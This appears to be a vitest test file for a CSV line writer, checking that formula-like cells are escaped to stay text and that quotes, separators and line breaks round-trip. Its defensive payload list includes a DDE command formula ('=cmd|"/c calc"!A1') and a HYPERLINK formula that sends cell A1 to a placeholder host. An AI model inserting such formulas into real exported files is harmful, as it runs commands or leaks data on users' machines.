import { expect, test } from 'vitest';
import { csvLine } from './csv-line.ts';
import { readRecord } from './csv-record.ts';

const FORMULAS = [
  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\n', ' =1', '  +1', '\u00a0-1', '\u3000=1'],
  ...['＝1+1', '＋1', '－1', '＠SUM(A1)', '=cmd|"/c calc"!A1', '=HYPERLINK("https://e.example?"&A1,"x")'],
];

test.each(FORMULAS)('%j stays text in a spreadsheet', (text) => {
  expect(csvLine([text])).toMatch(/^"'/);
});

test.each(['ada@example.com', "O'Hara", '1-2', 'a=b', 'x\n=1', '–'])('%j is left as it is', (text) => {
  expect(csvLine([text])).toBe(`"${text}"\r\n`);
});

test('cells with separators, quotes and lines come back whole, and no other separator splits them', () => {
  const cells = ['a,b;c\td', 'say "x"', 'two\nlines', 'ﬀ', '";=1+1;"'];
  const line = csvLine(cells);

  expect(readRecord({ text: line, isWhole: true, delimiter: ',' }, 0)).toEqual({
    kind: 'record',
    cells,
    end: line.length,
  });
});

test('a line has one carriage return, at its end, whatever its cells hold; what is not there is empty', () => {
  expect(csvLine(['a\r\nb\rc', null, ''])).toBe('"a\nb\nc",,\r\n');
});
